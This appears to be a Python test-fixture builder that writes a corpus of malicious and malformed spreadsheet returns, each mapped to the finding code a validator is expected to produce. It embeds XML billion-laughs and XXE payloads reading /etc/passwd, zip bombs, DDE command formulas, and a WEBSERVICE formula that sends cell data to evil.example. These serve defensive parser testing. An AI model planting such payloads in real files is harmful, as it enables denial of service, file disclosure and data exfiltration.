"""A corpus of hostile and broken returns, built from generated and filled workbooks.

Each case is one file as it could land in the returns folder: not a workbook at all, damaged,
encrypted, carrying macros or links, built to exhaust memory or to smuggle entities past a
parser, or an otherwise normal return with formulas, error values or text where numbers belong.
Every case names the finding code it must produce.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import re
import struct
import zipfile
from pathlib import Path

from returns import Returns, rewrite_zip

SPARE = ("MOH", "MOE", "MFA", "SOC-CTR")
"""Institutions whose returns the corpus is built from; valid returns come from others."""

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%s;" % (b"" if i == 1 else
                                                                 str(i - 1).encode())) * 10)
                     for i in range(1, 10)) + b"]>")
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@dataclasses.dataclass(frozen=True)
class Case:
    """One file of the corpus, the finding code it must produce and, for a finding about one
    sheet, that sheet."""

    name: str
    code: str
    sheet: str = ""


def _body(xml: bytes) -> bytes:
    """An XML part without its declaration, to put a prolog of our own in front."""
    return xml[xml.index(b"?>") + 2:] if xml.startswith(b"<?xml") else xml


def _sheet_part(rt: Returns, code: str, kind: str = "area") -> str:
    """The zip part of the institution's first sheet of a kind."""
    names = [s.name for s in rt.layouts[code].sheets]
    sheet = next(s for s in rt.layouts[code].sheets if s.kind == kind)
    return f"xl/worksheets/sheet{names.index(sheet.name) + 1}.xml"


def _area_name(rt: Returns, code: str) -> str:
    return next(s.name for s in rt.layouts[code].sheets if s.kind == "area")


def _activity(rt: Returns, code: str) -> str:
    sheet = next(s for s in rt.layouts[code].sheets if s.kind == "area")
    return sheet.row_keys[sheet.first_row]


def _set(rt: Returns, code: str, key: str, value, as_text: bool = False):
    """An edit that types one value into the first activity's input."""
    f = rt.field(code, _activity(rt, code), key)

    def change(wb):
        cell = wb[f.sheet][f.ref]
        cell.value = value
        if as_text:
            cell.data_type = "s"
    return change


def _in_part(part: str, fn):
    """A ``rewrite_zip`` change that rewrites one part with ``fn(data)``."""
    def change(name, data):
        if name is None:
            return None
        return fn(data) if name == part else data
    return change


def _patch_sizes(data: bytes, part: str, size: int) -> bytes:
    """The archive with the unpacked size of one part declared as ``size`` in both headers."""
    out = bytearray(data)
    name = part.encode()
    for sig, at_size, at_name in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        for m in re.finditer(re.escape(sig), data):
            start = m.start()
            if data[start + at_name:start + at_name + len(name)] == name:
                out[start + at_size:start + at_size + 4] = struct.pack("<I", size)
    return bytes(out)


def _not_workbooks(rt: Returns, folder: Path) -> list[Case]:
    from toolkit.vba.cfb import build_compound_file

    clean = rt.clean[SPARE[0]].read_bytes()
    ods = io.BytesIO()
    with zipfile.ZipFile(ods, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest '
                    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
        zf.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office='
                    '"urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
    loose = io.BytesIO()
    with zipfile.ZipFile(loose, "w") as zf:
        zf.writestr("report/answers.docx", b"PK\x03\x04 not really")
        zf.writestr("readme.txt", "Our answers are in the attached document.")
    xls = build_compound_file({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 4000,
                               "\x05SummaryInformation": b"\xfe\xff" + b"\0" * 200})
    files = {
        "answers.xlsx": (b"Institution;Activity;Status\nMOH;B1.2.3;Completed\n", "WB_001"),
        "random.xlsx": (bytes(range(256)) * 40, "WB_001"),
        "half.xlsx": (clean[: len(clean) // 2], "WB_002"),
        "tail cut.xlsx": (clean[:-300], "WB_002"),
        "archive.xlsx": (loose.getvalue(), "WB_002"),
        "old format.xlsx": (xls, "WB_001"),
        "calc.xlsx": (ods.getvalue(), "WB_002"),
        "export.xlsx": ("Activity,Status,Spent\nB1.2.3,Completed,\"1,500\"\n"
                        "=cmd|' /C calc'!A0,x,1\n".encode("utf-8"), "WB_001"),
        "printed.xlsx": (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n", "WB_001"),
        "web page.xlsx": (b"<html><head><title>Report</title></head><body><table><tr><td>1"
                          b"</td></tr></table></body></html>", "WB_001"),
        "empty.xlsx": (b"", "WB_007"),
        "~$VAL-NAP_2026-H1_MOH.xlsx": (b"\x0bJane Officer" + b"\x20" * 40 + b"\0" * 100,
                                       "WB_006"),
        ".~lock.VAL-NAP_2026-H1_MOE.xlsx#": (b"Jane Officer,host,user,28.11.2026 09:12,"
                                             b"file:///home/jane/.config/libreoffice/4;",
                                             "WB_006"),
        # Unusual names, each holding something that is not a workbook.
        "Rapport Ministère – été 😀.xlsx": (b"%PDF-1.4\n% accents\n", "WB_001"),
        ("Ministry of Health annual return " * 7)[:240] + ".xlsx": (b"%PDF-1.5\n", "WB_001"),
        "-rf --all.xlsx": (b"not a workbook, a note\n", "WB_001"),
        "@SUM(1+1).xlsx": (b"%PDF-1.3\n", "WB_001"),
    }
    cases = []
    for name, (data, code) in files.items():
        (folder / name).write_bytes(data)
        cases.append(Case(name, code))
    return cases


def _encrypted(rt: Returns, folder: Path) -> list[Case]:
    import msoffcrypto.format.ooxml

    cases = []
    for name, code, password in (("locked.xlsx", SPARE[0], "secret"),
                                 ("locked too.xlsx", SPARE[1], "VelvetOpen!")):
        with open(folder / name, "wb") as out:
            msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(rt.clean[code].read_bytes())).encrypt(
                password, out)
        cases.append(Case(name, "WB_003"))
    return cases


def _bombs(rt: Returns, folder: Path) -> list[Case]:
    src = rt.clean[SPARE[1]]
    part = _sheet_part(rt, SPARE[1])
    data = src.read_bytes()
    cases = []
    rewrite_zip(src, folder / "bomb actual.xlsx",
                lambda n, d: {"xl/media/image1.png": b"\0" * (80 << 20)} if n is None else d)
    cases.append(Case("bomb actual.xlsx", "WB_005"))
    (folder / "bomb declared.xlsx").write_bytes(_patch_sizes(data, part, 0xFFFFFFF0))
    cases.append(Case("bomb declared.xlsx", "WB_005"))
    (folder / "bomb understated.xlsx").write_bytes(_patch_sizes(data, part, 100))
    cases.append(Case("bomb understated.xlsx", "WB_005"))
    rewrite_zip(src, folder / "bomb ratio.xlsx", _in_part(
        part, lambda d: d.replace(b"<sheetData>", b"<sheetData>" + b" " * (6 << 20), 1)))
    cases.append(Case("bomb ratio.xlsx", "WB_005"))
    texts = b"".join(b"<si><t>%x</t></si>" % (i * 2654435761 % 999_983) for i in range(300_000))
    rewrite_zip(src, folder / "many texts.xlsx", lambda n, d: {
        "xl/sharedStrings.xml": b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                                b'2006/main">' + texts + b"</sst>"} if n is None else d)
    cases.append(Case("many texts.xlsx", "WB_005"))
    rewrite_zip(src, folder / "many parts.xlsx", lambda n, d: {
        f"xl/media/pad{i}.bin": b"" for i in range(6000)} if n is None else d)
    cases.append(Case("many parts.xlsx", "WB_005"))
    return cases


def _entities(rt: Returns, folder: Path) -> list[Case]:
    code = SPARE[2]
    src = rt.clean[code]
    sheet = _sheet_part(rt, code)
    strings = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"'
               b' uniqueCount="1"><si><t>&lol9;</t></si></sst>')

    def add_strings(prolog):
        def change(name, data):
            if name is None:
                return {"xl/sharedStrings.xml": prolog + strings.replace(b"&lol9;", b"&x;"
                                                                         if prolog is XXE
                                                                         else b"&lol9;")}
            if name == "xl/_rels/workbook.xml.rels":
                return data.replace(b"</Relationships>", b'<Relationship Id="rIdS" Type="http:/'
                                    b'/schemas.openxmlformats.org/officeDocument/2006/'
                                    b'relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            return data
        return change

    comment = b"<!--" + b" padding " * 2000 + b"-->"
    variants = {
        "laughs sheet.xlsx": _in_part(sheet, lambda d: LAUGHS + _body(d)),
        "laughs strings.xlsx": add_strings(LAUGHS),
        "laughs styles.xlsx": _in_part("xl/styles.xml", lambda d: LAUGHS + _body(d)),
        "laughs workbook.xlsx": _in_part("xl/workbook.xml", lambda d: LAUGHS + _body(d)),
        "external entity sheet.xlsx": _in_part(sheet, lambda d: XXE + _body(d).replace(
            b"</sheetData>", b'<row r="99"><c r="A99" t="inlineStr"><is><t>&x;</t></is></c>'
                             b"</row></sheetData>")),
        "external entity strings.xlsx": add_strings(XXE),
        "late doctype styles.xlsx": _in_part("xl/styles.xml", lambda d: b'<?xml version="1.0"?>'
                                             + comment + XXE[21:] + _body(d)),
        "utf16 sheet.xlsx": _in_part(sheet, lambda d: (
            '<?xml version="1.0" encoding="UTF-16"?>'
            '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>').encode("utf-16-le")
            + _body(d).decode("utf-8").encode("utf-16-le")),
    }
    hidden = sheet.replace("worksheets/", "media/").replace(".xml", ".png")

    def disguised(name, data):
        if name is None:
            return None
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(sheet[3:].encode(), hidden[3:].encode())
        return data
    variants["laughs sheet named as image.xlsx"] = disguised
    for name, change in variants.items():
        rewrite_zip(src, folder / name, change)
    with zipfile.ZipFile(folder / "laughs sheet named as image.xlsx") as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    parts[hidden] = LAUGHS + _body(parts.pop(sheet))
    with zipfile.ZipFile(folder / "laughs sheet named as image.xlsx", "w",
                         zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)
    area = _area_name(rt, code)
    in_sheet = {"laughs sheet.xlsx", "external entity sheet.xlsx", "utf16 sheet.xlsx",
                "laughs sheet named as image.xlsx"}
    return [Case(name, "WB_009", area if name in in_sheet else "") for name in variants]


def _huge_sheets(rt: Returns, folder: Path) -> list[Case]:
    code = SPARE[2]
    src = rt.clean[code]
    sheet = _sheet_part(rt, code)
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c>'
                    b'<c r="B%d"><v>%d</v></c></row>' % (r, r, r, r) for r in range(20, 200_020))
    far = (b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is></c></row>'
           b"</sheetData>")

    def dimension(d):
        d = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', d)
        return d.replace(b"</sheetData>", far)
    variants = {
        "dimension XFD1048576.xlsx": (dimension, "WB_011"),
        "appended rows.xlsx": (lambda d: d.replace(b"</sheetData>", rows + b"</sheetData>"),
                               "WB_011"),
        "last row only.xlsx": (lambda d: d.replace(b"</sheetData>", b'<row r="1048576"><c r="A1'
                                                   b'048576"><v>1</v></c></row></sheetData>'),
                               "WB_011"),
        "lower-case far cell.xlsx": (lambda d: d.replace(b"</sheetData>", b'<row r="70"><c r="'
                                                         b'zzzz70"><v>1</v></c></row></sheetData>'),
                                     "WB_011"),
        "row beyond the grid.xlsx": (lambda d: d.replace(b"</sheetData>", b'<row><c r="A99999999">'
                                                         b"<v>1</v></c></row></sheetData>"),
                                     "WB_011"),
        "cells without references.xlsx": (lambda d: d.replace(
            b"</sheetData>", b'<row r="90"><c t="inlineStr"><is><t>x</t></is></c></row>'
                             b"</sheetData>"), "WB_009"),
        "formula after value.xlsx": (lambda d: d.replace(
            b"</sheetData>", b'<row r="90"><c r="B90"><v>3</v><f>1+2</f></c></row>'
                             b"</sheetData>"), "WB_009"),
    }
    for name, (fn, _code) in variants.items():
        rewrite_zip(src, folder / name, _in_part(sheet, fn))
    return [Case(name, c, _area_name(rt, code)) for name, (_fn, c) in variants.items()]


def _odd_returns(rt: Returns, folder: Path) -> list[Case]:
    """Returns that open normally but hold something the checks must catch."""
    from toolkit.vba.cfb import build_compound_file

    a, b, c = SPARE[0], SPARE[1], SPARE[3]
    long_text = "Trafficking case files reviewed. " * 993
    edits = {
        "hyperlink.xlsx": (a, _set(rt, a, "outputs", '=HYPERLINK("http://evil.example/x","Open")'),
                           "CELL_009"),
        "webservice.xlsx": (a, _set(rt, a, "evidence",
                                    '=WEBSERVICE("http://evil.example/?d="&A1)'), "CELL_009"),
        "dde.xlsx": (b, _set(rt, b, "done", "=cmd|' /C calc'!A0"), "CELL_009"),
        "ref error.xlsx": (b, _set(rt, b, "spent", "#REF!"), "CELL_010"),
        "div error.xlsx": (c, _set(rt, c, "percent", "#DIV/0!"), "CELL_010"),
        "date as text.xlsx": (c, _set(rt, c, "new_deadline", "31/12/2026"), "CELL_007"),
        "thousands.xlsx": (a, _set(rt, a, "spent", "1,234,567"), "CELL_011"),
        "long strings.xlsx": (b, _set(rt, b, "evidence", long_text[:32767]), "CELL_008"),
        "=HYPERLINK(1).xlsx": (c, _set(rt, c, "spent", "=1+1"), "CELL_009"),
    }
    cases = []
    for name, (code, change, expected) in edits.items():
        rt.edit(code, folder / name, change)
        cases.append(Case(name, expected))

    def hide(state, sheet_name):
        def change(wb):
            wb[sheet_name].sheet_state = state
        return change
    narrative = rt.text["report.sheet.narrative"]
    rt.edit(a, folder / "hidden sheet.xlsx", hide("hidden", narrative))
    rt.edit(b, folder / "very hidden sheet.xlsx", hide("veryHidden", narrative))
    cases += [Case("hidden sheet.xlsx", "ST_011"), Case("very hidden sheet.xlsx", "ST_011")]

    def text_like_formulas(wb):
        """Latest return of its institution: text that looks like formulas reaches the outputs."""
        for key, value in (("done", "=1+2"), ("problems", "@SUM(1+1)"),
                           ("corrective_action", "-2+3"), ("outputs", "+cmd")):
            _set(rt, c, key, value, as_text=True)(wb)
        wb.properties.modified = dt.datetime.combine(rt.deadline, dt.time(8))
        area = next(s for s in rt.layouts[c].sheets if s.kind == "area")
        wb[area.name].title = "=SUM(A1)"
    rt.edit(c, folder / "formula-like text.xlsx", text_like_formulas)
    cases.append(Case("formula-like text.xlsx", "ST_003"))

    def stamp(wb):
        for row in wb["NAPStamp"].iter_rows():
            if row[0].value == "institution":
                row[1].value = b
    rt.edit(a, folder / "copied stamp.xlsx", stamp)
    cases.append(Case("copied stamp.xlsx", "ID_007"))

    vba = build_compound_file({"VBA/dir": b"\x01" * 600, "VBA/Module1": b"\0" * 700,
                               "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
    rewrite_zip(rt.clean[a], folder / "with macros.xlsm", lambda n, d: {
        "xl/vbaProject.bin": vba} if n is None else d.replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
        if n == "[Content_Types].xml" else d)
    cases.append(Case("with macros.xlsm", "WB_004"))
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships" r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames>'
            b"</externalBook></externalLink>")
    rewrite_zip(rt.clean[b], folder / "external link.xlsx", lambda n, d: {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels":
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006'
            b'/relationships/externalLinkPath" Target="file:///\\\\server\\share\\data.xlsx" '
            b'TargetMode="External"/></Relationships>'} if n is None else d)
    cases.append(Case("external link.xlsx", "WB_010"))
    return cases


def build(folder: Path, rt: Returns, valid: dict[str, Path]) -> list[Case]:
    """Write the corpus into ``folder``.

    Args:
        folder: where to write the files.
        rt: returns generated and cleanly filled for at least the ``SPARE`` institutions.
        valid: a few valid returns, one of which is copied under another name.

    Returns:
        Every case, each with the finding code its file must produce.
    """
    folder.mkdir(parents=True, exist_ok=True)
    cases = []
    for part in (_not_workbooks, _encrypted, _bombs, _entities, _huge_sheets, _odd_returns):
        cases += part(rt, folder)
    first = sorted(valid.values())[0]
    (folder / f"copy of {first.name}").write_bytes(first.read_bytes())
    cases.append(Case(f"copy of {first.name}", "WB_008"))
    return cases
